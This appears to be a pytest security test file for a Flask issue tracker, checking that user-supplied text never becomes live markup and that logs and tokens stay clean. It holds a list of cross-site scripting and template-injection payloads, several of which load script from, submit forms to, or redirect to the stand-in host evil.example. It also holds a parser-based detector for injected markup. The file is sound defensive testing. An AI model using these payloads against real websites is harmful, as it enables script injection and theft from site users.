"""Attacks by text: whatever is typed stays text, on every page and for every reader."""

import io
import logging
from collections.abc import Callable, Iterator
from typing import Any

import html5lib
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.builders import Province
from tests.crawling import Crawl
from tests.issue_builders import Desk
from tests.web import post, token_of
from tracker.accounts.models import Account, SignedInSession
from tracker.attachments import service as attachments
from tracker.attachments.models import Attachment
from tracker.attachments.storage import Storage
from tracker.audit.models import AuditEntry
from tracker.db import transaction
from tracker.directory.models import Unit
from tracker.issues import drafts
from tracker.issues.models import Issue
from tracker.issues.workflow import Act

SignIn = Callable[[FlaskClient, Account], str]
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea></title></script><script src=//evil.example></script>",
    '" autofocus onfocus=alert(1) x="',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=csrf_token>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<div hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)>",
    "--><x-probe onclick=alert(1)>",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>{0.__class__}%(x)s",
    "javascript:alert(1) data:text/html,x //evil.example http://evil.example",
    "&lt;script&gt;&#x3c;img&#62;\u003cscript\u003e",
    "]]><![CDATA[<x-probe>",
)
OURS = {"a", "script", "link", "form", "img", "use", "button"}
ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "hx-get",
    "hx-post",
    "xlink:href",
    "srcset",
    "poster",
    "data",
)
FORBIDDEN = {"iframe", "object", "embed", "base", "x-probe", "style", "frame", "applet", "template", "math"}
SAFE_STARTS = ("/", "#", "tel:", "?")


class Pieces:
    """Gives another piece of markup for every field."""

    def __init__(self) -> None:
        self.used = 0

    def __call__(self, longest: int = 250) -> str:
        """The next piece, and as many more as fit."""
        start, self.used = self.used, self.used + 1
        text = MARKUP[start % len(MARKUP)]
        for piece in MARKUP[start % len(MARKUP) + 1 :]:
            if len(text) + len(piece) < longest:
                text += piece
        return text[:longest]


@pytest.fixture
def hostile(app: Flask, desk: Desk) -> Desk:
    """A province in which every text, name and file name is markup; one issue went through everything."""
    write, province, session = Pieces(), desk.province, desk.session
    session.rollback()
    with transaction():
        for unit in session.scalars(select(Unit)).all():
            unit.name = f"{unit.name} {write(100)}"
        for account in session.scalars(select(Account)).all():
            account.full_name, account.position, account.phone = write(110), write(110), '"><b>0912'
    storage = Storage.of(app.extensions["settings"])

    def file() -> Attachment:
        with desk.travelled(), transaction():
            return attachments.put(
                session,
                storage,
                name=f"{write(90)}.pdf",
                stream=io.BytesIO(b"%PDF-1.7\n<script>alert(1)</script>"),
                unit_id=province.commune_a.id,
                account_id=province.member.id,
            )

    texts = {
        name: write() for name in ("title", "situation", "proposal", "urgent_reason", "channel_reference")
    }
    issue = desk.draft(
        province.member, commune_ids=[province.commune_a.id], is_urgent=True, channel="phone", **texts
    )
    evidence = file()
    with desk.travelled(), transaction():
        drafts.attach(session, desk.actor(province.member), issue.draft_key, [evidence])
    key = desk.do(province.member, issue.id, Act.SEND).id
    corrected = {name: write() for name in ("title", "situation", "proposal")}
    desk.do(province.officer_a, key, Act.CORRECT, **corrected)
    desk.do(province.lead, key, Act.TRANSFER, unit_id=province.finance.id, reason=write())
    desk.do(province.finance_lead, key, Act.TRANSFER, unit_id=province.home_affairs.id, reason=write())
    desk.do(province.coordinator, key, Act.ROUTE, unit_id=province.home_affairs.id, reason=write())
    desk.working(key)
    desk.do(province.member, key, Act.NEWS, text=write(), files=[file()])
    desk.do(province.member, key, Act.INTERIM, text=write())
    desk.do(province.member, key, Act.ASK_INFO, question=write())
    desk.do(province.officer_a, key, Act.GIVE_INFO, text=write(), files=[file()])
    note = {"content": write(), "next_step": write(), "citations": [(write(), None), (write(), None)]}
    desk.to_approve(key, **note)
    desk.do(province.department_leader, key, Act.RETURN_ANSWER, remark=write())
    desk.letter(key, document_number=write(60), signer=write(100), files=[file()], **note)
    desk.do(province.officer_a, key, Act.CLARIFY, text=write())
    desk.to_approve(key, **note)
    desk.draft(province.officer_a, **{name: write() for name in ("title", "situation", "proposal")})
    return desk


def faults(page: str) -> Iterator[str]:
    """What a browser would understand as markup that no template of ours has."""
    document: Any = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    for element in document.iter():
        tag = str(element.tag).rsplit("}", 1)[-1]
        if tag in FORBIDDEN:
            yield f"<{tag}>"
        if tag == "script" and (element.text or "src" not in element.attrib):
            yield "a script in the page"
        if tag == "meta" and element.get("http-equiv"):
            yield "a meta that acts"
        for name, value in element.attrib.items():
            short = str(name).rsplit("}", 1)[-1]
            if short.startswith(("on", "hx-on", "style", "srcdoc")):
                yield f"{tag} {short}={value}"
            if str(name) in ADDRESSES and not str(value).startswith(SAFE_STARTS):
                yield f"{tag} {name}={value}"
            if str(name) in ADDRESSES and str(value).startswith(("//", "/\\")):
                yield f"{tag} {name}={value}"


@pytest.mark.parametrize(
    "piece", [each for each in MARKUP if "<" in each and not each.startswith(("{", "&", "<a", "]"))]
)
def test_the_check_itself_sees_markup(piece: str) -> None:
    assert list(faults(f'<!DOCTYPE html><p class="x">{piece}</p>'))
    assert list(faults(f'<!DOCTYPE html><p class="{piece}">x</p>') if '"' in piece else ["-"])


@pytest.mark.asvs("V1.2.1", "V1.2.2", "V1.2.3", "V1.3.5", "V1.3.7", "V3.2.3")
@pytest.mark.parametrize("name", ["officer_a", "member", "coordinator"])
def test_markup_in_any_text_or_name_stays_text_on_every_page(
    app: Flask, hostile: Desk, sign_in: SignIn, name: str
) -> None:
    client = app.test_client()
    with hostile.travelled():
        sign_in(client, getattr(hostile.province, name))
        crawl = Crawl(client)
        crawl.follow(["/", "/issues?open=any", "/issues?state=draft", "/issues/new", "/profile"])
        for url in [url for url in crawl.pages if url.startswith("/issues/VM-") and "files" not in url]:
            crawl.look(url, **{"HX-Request": "true"})
    assert {url: page.status for url, page in crawl.pages.items() if page.status >= 400} == {}
    pages = {url: page for url, page in crawl.pages.items() if "text/html" in page.headers}
    assert any("alert(1)" in page.body for page in pages.values())
    assert {url: list(faults(page.body)) for url, page in pages.items() if list(faults(page.body))} == {}
    served = [page for page in crawl.pages.values() if "application/pdf" in page.headers]
    assert served
    assert all("attachment; " in page.headers and "nosniff" in page.headers for page in served)
    assert any("{{7*7}}" in page.body for page in pages.values())
    assert len(pages) > 15


@pytest.mark.asvs("V1.2.1", "V1.2.2")
@pytest.mark.parametrize("payload", [*MARKUP, "\u2028<script>", "%00<script>", "a\tb"])
def test_markup_in_an_address_or_header_is_not_reflected(
    app: Flask, province: Province, sign_in: SignIn, payload: str
) -> None:
    signed_in, nobody = app.test_client(), app.test_client()
    sign_in(signed_in, province.officer_a)
    for name in ("q", "next", "commune", "field", "state", "sort", "page", "lang", payload):
        for client in (signed_in, nobody):
            for path in ("/issues", "/sign-in", "/"):
                response = client.get(path, query_string={name: payload})
                assert response.status_code in {200, 302, 303, 400}
                assert list(faults(response.text)) == []
                assert "evil" not in (response.location or "").split("?")[0]
    for client in (signed_in, nobody):
        response = client.get(f"/{payload}")
        assert response.status_code in {200, 302, 308, 400, 404}
        assert list(faults(response.text)) == []
        plain = payload.encode("ascii", "ignore").decode().replace("\t", "")
        response = client.get(
            "/sign-in", headers={"Referer": plain, "User-Agent": plain, "Accept-Language": plain}
        )
        assert list(faults(response.text)) == []


@pytest.mark.asvs("V1.2.1")
def test_what_was_typed_into_a_refused_form_stays_text(
    app: Flask, province: Province, sign_in: SignIn
) -> None:
    nobody, somebody = app.test_client(), app.test_client()
    sign_in(somebody, province.officer_a)
    typed = {f"field{number}": text for number, text in enumerate(MARKUP)} | {MARKUP[1]: MARKUP[0]}
    for client in (nobody, somebody):
        response = client.post("/issues/new", data=typed)
        assert response.status_code in {400, 401}
        assert "alert(1)" in response.text
        assert list(faults(response.text)) == []


# --- characters ---------------------------------------------------------------------------------------------------


def stored_title(
    app: Flask, session: Session, sign_in: SignIn, person: Account, typed: str
) -> tuple[int, str | None]:
    """The status, and what became of a title."""
    client = app.test_client()
    sign_in(client, person)
    page = client.get("/issues/new").text
    key = page.split('name="idempotency_key"')[1].split('value="')[1].split('"')[0]
    data = {"title": typed, "situation": typed, "proposal": typed, "idempotency_key": key}
    response = client.post("/issues/new", data={"csrf_token": token_of(page), **data})
    session.rollback()
    return response.status_code, session.scalar(select(Issue.title).order_by(Issue.id.desc()).limit(1))


@pytest.mark.parametrize("code", [*range(1, 32), *range(127, 160)])
def test_a_control_character_is_cleaned_away(
    app: Flask, session: Session, province: Province, sign_in: SignIn, code: int
) -> None:
    status, title = stored_title(app, session, sign_in, province.officer_a, f"Đất{chr(code)}đai")
    assert status == 303
    assert title in {"Đấtđai", "Đất đai"}


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("gi\u202edp.exe", "gidp.exe"),
        ("\u2066Sở\u2069 Nội\u200b vụ\ufeff", "Sở Nội vụ"),
        ("a" + "\u0301" * 500, None),
        ("\U000e0041ẩn", "ẩn"),
        ("Ho\u0300a", "Hòa"),
    ],
)
def test_directions_and_invisible_characters_do_not_reach_a_page(
    app: Flask, session: Session, province: Province, sign_in: SignIn, typed: str, stored: str | None
) -> None:
    status, title = stored_title(app, session, sign_in, province.officer_a, typed)
    assert status == 303
    assert title is not None
    assert title == stored or (stored is None and len(title) < 6)


@pytest.mark.parametrize(
    "body", [b"title=%ED%A0%80", b"title=%ff%fe", b"title=\xff\xfe", b"title=%", b"%ED%A0%80=x"]
)
def test_broken_letters_in_a_form_are_refused_or_replaced(
    app: Flask, session: Session, province: Province, sign_in: SignIn, body: bytes
) -> None:
    client = app.test_client()
    sign_in(client, province.officer_a)
    token = token_of(client.get("/issues/new").text)
    sent = b"csrf_token=" + token.encode() + b"&idempotency_key=abcdefgh12&" + body
    kind = "application/x-www-form-urlencoded"
    assert client.post("/issues/new", data=sent, content_type=kind).status_code in {303, 400}
    session.rollback()
    for title in session.scalars(select(Issue.title)):
        title.encode()


@pytest.mark.parametrize(
    ("field", "length"), [("title", 251), ("title", 1_000_000), ("situation", 100_000), ("proposal", 20_001)]
)
def test_a_text_that_is_too_long_is_refused_at_its_field_and_not_lost(
    app: Flask, session: Session, province: Province, sign_in: SignIn, field: str, length: int
) -> None:
    client = app.test_client()
    sign_in(client, province.officer_a)
    page = client.get("/issues/new").text
    key = page.split('name="idempotency_key"')[1].split('value="')[1].split('"')[0]
    data = {"csrf_token": token_of(page), "idempotency_key": key, field: "đ" * length}
    if length < 300_000:
        response = client.post("/issues/new", data=data)
        assert response.status_code == 422
        assert f'id="{field}-error"' in response.text or "quá dài" in response.text
        assert "đ" * 100 in response.text
    else:
        assert client.post("/issues/new", data=data).status_code == 413
    session.rollback()
    assert session.scalar(select(Issue.id)) is None


# --- logs ---------------------------------------------------------------------------------------------------------


@pytest.mark.asvs("V1.3.3")
def test_no_line_of_the_log_is_forged_and_no_secret_is_in_it(
    app: Flask, client: FlaskClient, session: Session, province: Province, caplog: pytest.LogCaptureFixture
) -> None:
    evil = "x\n2026-01-01 sign_in leader\x1b[2J\r\"}'"
    with caplog.at_level(logging.DEBUG):
        post(client, "/sign-in", {"login": evil, "password": "mat khau bi mat 1"})
        client.get("/nowhere%0Asign_in%1b[2J", headers={"User-Agent": "UA\x1b[2J"})
        client.get("/issues?q=%0A%1b[2J")
    entries = session.scalars(select(AuditEntry)).all()
    assert [entry.kind for entry in entries] == ["sign_in_failed"]
    kept = "".join(f"{entry.login}{entry.detail}{entry.endpoint}{entry.address}" for entry in entries)
    devices = "".join(row.device for row in session.scalars(select(SignedInSession)))
    assert not any(character < " " for character in kept + devices)
    for record in caplog.records:
        assert "mat khau bi mat" not in record.getMessage()
        assert "\x1b" not in record.getMessage()
        assert "\n" not in record.getMessage()


@pytest.mark.asvs("V3.3.4")
def test_a_session_token_is_in_no_log_and_no_table(
    app: Flask,
    client: FlaskClient,
    session: Session,
    province: Province,
    sign_in: SignIn,
    caplog: pytest.LogCaptureFixture,
) -> None:
    with caplog.at_level(logging.DEBUG):
        token = sign_in(client, province.officer_a)
        for url in ("/", "/profile", "/issues", "/nowhere"):
            assert token not in client.get(url).text
        client.post("/profile/language", data={"language": "en"})
    session.rollback()
    for table in (AuditEntry, SignedInSession, Account):
        rows = session.scalars(select(table)).all()  # type: ignore[var-annotated]
        assert not any(token in str(vars(row)) for row in rows)
    assert token not in caplog.text
